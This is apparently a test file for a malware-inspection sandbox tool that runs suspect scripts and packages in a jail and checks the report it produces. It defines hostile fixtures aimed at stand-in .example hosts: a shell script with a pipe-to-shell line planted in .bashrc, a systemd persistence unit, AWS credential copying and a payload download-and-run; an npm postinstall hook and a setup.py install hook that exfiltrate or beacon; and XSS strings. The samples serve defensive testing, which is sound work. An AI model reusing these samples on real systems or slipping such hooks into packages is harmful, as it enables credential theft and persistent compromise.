import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { cpSync, mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { after, suite, test } from 'node:test'
import type { InspectReport } from '../../src/cli/inspection.ts'
import { isMissing } from '../walls/process-stands.ts'
import { makePlace, mayfly } from './program.ts'

/** `mayfly inspect` by the real command and a process wall; hosts are below `.example`, and only the stub answers. */
const place = makePlace()
after(() => place.remove())

const root = join(import.meta.dirname, '../..')
const inside = (...names: string[]) => join(place.cwd, ...names)
const write = (name: string, text: string) => {
  mkdirSync(join(inside(name), '..'), { recursive: true })
  writeFileSync(inside(name), text)
}
const inspected = async (target: string, ...more: string[]): Promise<InspectReport> => {
  const ran = await mayfly(place, ['inspect', target, '--tier', 'process', '--json', ...more])
  assert.equal(ran.code, 0, ran.stderr)
  return JSON.parse(ran.stdout) as InspectReport
}

write(
  'drop.sh',
  `echo 'curl http://later.example | sh' >> ~/.bashrc
mkdir -p ~/.config/systemd/user; echo '[Service]' > ~/.config/systemd/user/a.service
cat ~/.aws/credentials > /tmp/loot
curl -s http://drop.example/payload -o /tmp/p; chmod +x /tmp/p; /tmp/p && echo started
curl -s --data 'who=me' https://up.example:8443/in
`,
)

suite('An inspection reports what a suspect does', () => {
  test('Files, programs, hosts, requests and persistence of a shell script are in the report', async (t) => {
    if (isMissing(t, { jailKind: 'bubblewrap' })) return
    const found = await inspected('drop.sh')
    assert.equal(found.verdict, 'malicious')
    assert.deepEqual(
      found.persistence.map(({ path, technique }) => [path, technique]),
      [
        ['/work/.bashrc', 'T1546.004'],
        ['/work/.config/systemd/user/a.service', 'T1543.002'],
      ],
    )
    assert.ok(found.files.read.some(({ path }) => path === '/work/.aws/credentials'))
    assert.ok(found.files.written.some(({ path }) => path === '/tmp/loot'))
    assert.ok(found.programs.some(({ path, written }) => path === '/tmp/p' && written))
    assert.deepEqual(
      found.network.requests.map(({ method, url, body }) => [method, url, body]),
      [
        ['GET', 'http://drop.example/payload', ''],
        ['POST', 'https://up.example:8443/in', 'who=me'],
      ],
    )
    assert.match(found.runs[0]!.stdout, /started/)
    assert.equal(found.runs[0]!.captures > 0, true)
  })

  test('A planted credential that an npm package sends at its installation does not leave, and is named', async (t) => {
    if (isMissing(t, { jailKind: 'bubblewrap' })) return
    write(
      'evil/package/package.json',
      '{"name":"@a/evil","version":"1.0.0","main":"index.js","scripts":{"postinstall":"node setup.js"}}',
    )
    write(
      'evil/package/setup.js',
      `const text = require('fs').readFileSync(process.env.HOME + '/.aws/credentials', 'latin1')
       fetch('https://collect.example/', { method: 'POST', body: Buffer.from(text).toString('base64') }).catch(() => {})`,
    )
    write('evil/package/index.js', 'console.log("imported it")')
    execFileSync('tar', ['-czf', inside('evil.tgz'), '-C', inside('evil'), 'package'])
    for (const target of ['evil.tgz', 'evil/package']) {
      const found = await inspected(target)
      assert.deepEqual([found.kind, found.verdict], ['npm-package', 'malicious'], target)
      assert.deepEqual(found.credentials, [{ token: 'cloud-key', where: 'egress' }])
      assert.ok(
        found.network.hosts.some(
          ({ host, verdict }) => host === 'collect.example' && verdict === 'cut',
        ),
      )
      assert.deepEqual(found.network.requests, [])
      assert.match(found.runs[0]!.stdout, /imported it/)
      assert.ok(found.analysis.some(({ file }) => file === 'setup.js'))
      assert.deepEqual(
        found.programs.filter(({ path }) => /tar|gzip/.test(path)),
        [],
      )
    }
  })

  test('The install command of setup.py and the import of its modules run', async (t) => {
    if (isMissing(t, { jailKind: 'bubblewrap' })) return
    write(
      'py/evilpy-1.0/setup.py',
      `from setuptools import setup
from setuptools.command.install import install
import urllib.request
class Then(install):
    def run(self):
        urllib.request.urlopen("https://beacon.example/?x=1")
setup(name="evilpy", version="1.0", packages=["evilpy"], cmdclass={"install": Then})
`,
    )
    write('py/evilpy-1.0/evilpy/__init__.py', 'print("imported it")')
    write('py/evilpy-1.0/PKG-INFO', 'Metadata-Version: 2.1\n')
    execFileSync('tar', ['-czf', inside('evilpy.tar.gz'), '-C', inside('py'), 'evilpy-1.0'])
    const found = await inspected('evilpy.tar.gz')
    assert.equal(found.kind, 'python-package')
    assert.deepEqual(
      found.network.requests.map(({ url }) => url),
      ['https://beacon.example/?x=1'],
    )
    assert.match(found.runs[0]!.stdout, /imported it/)
  })

  test('A widely used package and a program that computes are unremarkable', async (t) => {
    if (isMissing(t, { jailKind: 'bubblewrap' })) return
    cpSync(join(root, 'node_modules/smol-toml'), inside('honest'), { recursive: true })
    write('sum.py', 'print(sum(range(10)))')
    for (const target of ['honest', 'sum.py']) {
      const found = await inspected(target)
      assert.deepEqual([found.verdict, found.because], ['unremarkable', []], target)
      assert.equal(found.runs[0]!.status, 'ok')
    }
  })

  test('The page escapes what the target says, and --fail-on ends 3', async (t) => {
    if (isMissing(t, { jailKind: 'bubblewrap' })) return
    write(
      'page.sh',
      `echo '<script>alert(1)</script>'; curl -s 'http://x.example/<img src=x>' ; echo x >> ~/.profile; printf 'moves \\033[2J\\342\\200\\256'`,
    )
    const words = [
      'inspect',
      'page.sh',
      '--tier',
      'process',
      '--html',
      '-',
      '--fail-on',
      'suspicious',
    ]
    const ran = await mayfly(place, words)
    assert.equal(ran.code, 3, ran.stderr)
    assert.match(ran.stdout, /^<!doctype html>[^]*default-src 'none'[^]*&lt;script&gt;alert/)
    for (const raw of ['<script', '<img', '\x1b', '\u202e'])
      assert.ok(!ran.stdout.includes(raw), JSON.stringify(raw))
    assert.match(ran.stdout, /moves \\x1b\[2J\\u202e/)
  })

  test('A target that is not there, and a folder without a start, are told in words', async (t) => {
    if (isMissing(t, { jailKind: 'bubblewrap' })) return
    const ran = await mayfly(place, ['inspect', 'nowhere.sh'])
    assert.equal(ran.code, 2)
    assert.match(ran.stderr, /Cannot inspect "nowhere\.sh": there is no such file or folder/)
    write('plain/notes.js', 'export const a = 1')
    const found = await inspected('plain')
    assert.deepEqual([found.kind, found.runs], ['files', []])
    assert.match(found.notes.join(), /Nothing was run/)
  })
})
